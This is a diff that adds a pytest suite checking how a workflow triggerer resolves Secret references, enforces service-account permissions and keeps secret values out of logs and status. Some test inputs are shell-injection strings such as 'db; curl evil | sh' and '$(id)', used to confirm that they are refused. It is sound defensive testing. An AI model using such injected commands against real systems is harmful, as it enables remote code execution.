@@ -1,0 +1,272 @@
+"""One replica: what stands in a Secret reaches the trigger, and nothing and nobody else."""
+
+import json
+from typing import Any
+
+import pytest
+from torpor.triggers.support.secret_refs import Revealed
+from torpor_api.client.resources import EVENTS, TASKRUNS
+from torpor_triggerer.secrets import reader
+from torpor_triggerer.secrets.reader import SECRETS, Vault
+from torpor_triggerer.usercode import validation
+from torpor_wire import constants, trigger, typed_json
+from torpor_wire.secret_ref import SecretRef
+
+from tests.support.fake_api import Fault
+from tests.support.triggerer_world import NAMESPACE, World, begun, world
+
+SECRET = "hunter2-hunter2"
+REFERENCE = SecretRef("db", "password").written()
+
+
+def prepared(made: World, account: str = constants.TASK_ACCOUNT) -> None:
+    made.secret("db", password=SECRET)
+    made.readers.add((account, "db"))
+
+
+def seen(made: World) -> str:
+    """All that anybody could see: the log, what was written, and what stands."""
+    stands = [*made.fake.all(TASKRUNS), *made.fake.all(EVENTS)]
+    written = [one.body for one in made.fake.requests if one.body is not None]
+    return made.said.getvalue() + json.dumps(stands) + json.dumps(written)
+
+
+async def test_a_reference_anywhere_in_the_kwargs_is_the_text_of_the_secret() -> None:
+    async with world() as made:
+        prepared(made)
+        await begun(made, "a", kwargs={"name": "a", "deep": [{"x": REFERENCE}, 1], "plain": "p"})
+        assert made.given[0]["deep"] == [{"x": SECRET}, 1]
+        assert isinstance(made.given[0]["deep"][0]["x"], Revealed)
+        assert not isinstance(made.given[0]["plain"], Revealed)
+        assert made.called("a") == ["run"]
+
+
+async def test_whether_the_account_may_read_it_is_asked_each_time() -> None:
+    async with world() as made:
+        prepared(made, "reader")
+        spec = {"python": "m:f", "serviceAccount": "reader"}
+        made.taskrun("a", kwargs={"name": "a", "x": REFERENCE}, spec=spec, account="reader")
+        made.taskrun("b", kwargs={"name": "b", "x": REFERENCE}, spec=spec, account="reader")
+        await made.start()
+        assert made.reviews == [("reader", "db")] * 2
+        assert made.called("a") == made.called("b") == ["run"]
+
+
+async def test_an_account_that_may_not_read_it_is_told_so_and_the_secret_is_not_even_fetched() -> None:
+    async with world() as made:
+        prepared(made, "another")
+        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE}, spec={"python": "m:f", "retries": {"limit": 1}})
+        await made.pass_time(5)
+        assert made.stands("a") == ("UpForRetry", "SecretForbidden")
+        message = made.status("a")["message"]
+        assert "ServiceAccount torpor-task may not get Secret db in namespace workflows" in message
+        assert "create role read-db --verb=get --resource=secrets --resource-name=db" in message
+        assert not [one for one in made.fake.requests if "/secrets/" in one.path]
+        assert made.given == []
+
+
+async def test_a_role_that_comes_a_moment_after_the_wait_is_waited_for() -> None:
+    async with world() as made:
+        made.secret("db", password=SECRET)
+        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
+        made.readers.add((constants.TASK_ACCOUNT, "db"))
+        await made.pass_time(2)
+        assert made.called("a") == ["run"]
+
+
+async def test_who_is_denied_again_and_again_holds_up_nobody_else() -> None:
+    async with world() as made:
+        prepared(made, "reader")
+        for number in range(100):
+            made.taskrun(f"denied{number}", kwargs={"name": f"denied{number}", "x": REFERENCE})
+        spec = {"python": "m:f", "serviceAccount": "reader"}
+        made.taskrun("z", kwargs={"name": "z", "x": REFERENCE}, spec=spec, account="reader")
+        await made.start()
+        assert made.called("z") == ["run"]
+
+
+@pytest.mark.parametrize(("path", "words"), [("/secrets/db", "components/secrets"), ("/none", "may not ask")])
+async def test_a_triggerer_without_the_right_says_which_it_lacks(path: str, words: str) -> None:
+    async with world() as made:
+        prepared(made)
+        if path == "/none":
+            made.reviewing = False
+        else:
+            made.fake.inject(Fault(status=403, method="GET", path=path, message="no such right", times=9))
+        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
+        assert made.stands("a") == ("Failed", "SecretForbidden")
+        assert words in made.status("a")["message"]
+
+
+async def test_a_secret_or_a_key_that_is_missing_is_waited_for() -> None:
+    async with world() as made:
+        made.readers.add((constants.TASK_ACCOUNT, "db"))
+        made.taskrun("b", kwargs={"name": "b", "x": REFERENCE}, timeout=20)
+        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
+        await made.pass_time(4)
+        made.secret("db", other="x")
+        await made.pass_time(17)
+        assert made.stands("a") == ("Deferred", "Waiting")
+        assert ": Secret db has no key password" in made.status("a")["message"]
+        assert made.stands("b") == ("Failed", "DeferralTimeout")
+        assert made.status("b")["message"].endswith("at the last look: Secret db has no key password")
+        assert "Secret db does not exist in namespace workflows; looking again in 5 s" in made.said.getvalue()
+        made.fake.remove(SECRETS, NAMESPACE, "db")
+        prepared(made)
+        await made.pass_time(25)
+        assert made.called("a") == ["run"]
+        assert made.called("b") == []
+
+
+async def test_a_server_that_does_not_answer_is_asked_again() -> None:
+    async with world() as made:
+        prepared(made)
+        made.fake.inject(Fault(status=503, method="GET", path="/secrets/db", times=8))
+        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
+        await made.pass_time(60)
+        assert made.called("a") == ["run"]
+
+
+@pytest.mark.parametrize(
+    "bad",
+    [
+        {"__type": "secretRef", "__var": "db"},
+        {"__type": "secretRef", "__var": {"name": "db"}},
+        {"__type": "secretRef", "__var": {"name": "db", "key": 1}},
+        {"__type": "secretRef", "__var": {"name": "db", "key": "k", "more": 1}},
+        {"__type": "secretRef", "__var": {"name": "../x", "key": "k"}},
+    ],
+)
+async def test_what_is_no_reference_is_refused(bad: Any) -> None:
+    async with world() as made:
+        made.readers |= {(constants.TASK_ACCOUNT, "db"), (constants.TASK_ACCOUNT, "../x")}
+        await begun(made, "a", kwargs={"name": "a", "x": bad})
+        assert made.stands("a") == ("Failed", "TriggerInvalid")
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        {"secretRef": {"name": "db", "key": "password"}},
+        {"deep": [{"secretRef": {"name": "db", "key": "password"}}]},
+        typed_json.encode({"__type": "dict", "__var": {"secretRef": {"name": "db", "key": "password"}}}),
+    ],
+)
+async def test_a_reference_that_is_not_marked_as_an_authors_is_refused_and_nothing_is_read(data: Any) -> None:
+    async with world() as made:
+        prepared(made)
+        await begun(made, "a", kwargs={"name": "a", "x": data})
+        assert made.stands("a") == ("Failed", "TriggerInvalid")
+        assert "holds a secretRef that came as data" in made.status("a")["message"]
+        assert (made.reviews, made.given) == ([], [])
+
+
+async def test_data_that_looks_like_a_marked_reference_is_data() -> None:
+    async with world() as made:
+        prepared(made)
+        data = {"list": [REFERENCE], "__type": REFERENCE}
+        await begun(made, "a", kwargs={"name": "a", "x": typed_json.encode(data)})
+        assert made.given[0]["x"] == data
+        assert made.reviews == []
+
+
+@pytest.mark.parametrize(
+    "bad",
+    [{"name": "db; curl evil | sh", "key": "k"}, {"name": "$(id)", "key": "k"}, {"name": "db", "key": "\x1b[2J"}],
+)
+async def test_a_name_that_no_secret_can_have_is_refused_before_anybody_is_asked(bad: dict[str, str]) -> None:
+    async with world() as made:
+        await begun(made, "a", kwargs={"name": "a", "x": {"__type": "secretRef", "__var": bad}})
+        assert made.stands("a") == ("Failed", "TriggerInvalid")
+        assert "of a Secret" in made.status("a")["message"]
+        assert "kubectl" not in made.status("a")["message"]
+        assert not [one for one in made.fake.requests if "/subjectaccessreviews" in one.path]
+
+
+@pytest.mark.parametrize(("account", "name"), [("x; curl evil | sh", "db"), ("torpor-task", "$(id)"), ("a\nb", "db")])
+def test_no_command_is_printed_with_a_name_that_a_shell_would_not_take_as_it_is(account: str, name: str) -> None:
+    assert reader.commands(reader.Reader(NAMESPACE, account), name) == ""
+
+
+async def test_what_is_no_text_is_refused() -> None:
+    async with world() as made:
+        made.readers.add((constants.TASK_ACCOUNT, "db"))
+        made.fake.put(SECRETS, {"metadata": {"name": "db", "namespace": NAMESPACE}, "data": {"password": "/w=="}})
+        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
+        assert made.status("a")["message"] == "key password of Secret db is not text in UTF-8"
+
+
+@pytest.mark.parametrize(
+    ("does", "state", "reason"),
+    [
+        ("shows what it was given and fires", "Scheduled", None),
+        ("shows what it was given and raises", "Failed", "TriggerFailed"),
+        ("refuses what it was given", "Failed", "TriggerInvalid"),
+    ],
+)
+async def test_a_secret_is_nowhere_to_be_seen_whatever_its_trigger_does(
+    does: str, state: str, reason: str | None
+) -> None:
+    async with world() as made:
+        prepared(made)
+        await begun(made, "a", kwargs={"does": does, "name": "a", "x": REFERENCE})
+        await made.pass_time(2)
+        assert made.stands("a") == (state, reason)
+        assert made.given[0]["x"] == SECRET
+        assert "hunter2" not in seen(made)
+        assert "***" in seen(made)
+
+
+@pytest.mark.parametrize(("broken", "state"), [("reveal", "Deferred"), ("admit", "Failed")])
+async def test_a_bug_on_the_way_to_a_secret_ends_no_triggerer(
+    broken: str, state: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def bug(*_: object) -> None:
+        raise ZeroDivisionError("nobody thought of it")
+
+    async with world() as made:
+        prepared(made)
+        monkeypatch.setattr(*{"reveal": (Vault, "read"), "admit": (validation, "admit")}[broken], bug)
+        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
+        assert made.status("a")["state"] == state
+        monkeypatch.undo()
+        await made.pass_time(6)
+        assert made.called("a") == (["run"] if broken == "reveal" else [])
+
+
+async def test_a_wait_that_is_cancelled_while_its_secret_is_missing_ends_at_once() -> None:
+    async with world() as made:
+        made.readers.add((constants.TASK_ACCOUNT, "db"))
+        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
+        made.edit("a", cancel="2023-11-14T22:13:20Z")
+        made.taskrun("b", kwargs={"name": "b", "x": REFERENCE}, status={"cancel": "2023-11-14T22:13:20Z"})
+        await made.rest()
+        assert made.stands("a") == made.stands("b") == ("Cancelled", "Cancelled")
+
+
+async def test_a_cancelled_wait_with_its_secret_there_is_killed() -> None:
+    async with world() as made:
+        prepared(made)
+        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE}, status={"cancel": "2023-11-14T22:13:20Z"})
+        assert made.called("a") == ["on_kill", "cleanup"]
+
+
+async def test_a_wait_that_moves_away_while_its_secret_is_missing_asks_no_more() -> None:
+    async with world() as made:
+        made.readers.add((constants.TASK_ACCOUNT, "db"))
+        await begun(made, "a", kwargs={"name": "a", "x": REFERENCE})
+        made.fake.remove(TASKRUNS, NAMESPACE, "a")
+        await made.rest()
+        before = len(made.reviews)
+        await made.pass_time(60)
+        assert len(made.reviews) == before
+
+
+async def test_a_key_that_leaves_out_the_account_is_a_lie() -> None:
+    async with world() as made:
+        prepared(made)
+        kwargs: dict[str, Any] = {"name": "a", "x": REFERENCE}
+        key = trigger.key("odd", kwargs, namespace=NAMESPACE, pool="default", account="another")
+        await begun(made, "a", kwargs=kwargs, trigger={"key": key, "shard": trigger.shard(key)})
+        assert made.stands("a") == ("Failed", "TriggerInvalid")
+        assert made.reviews == []
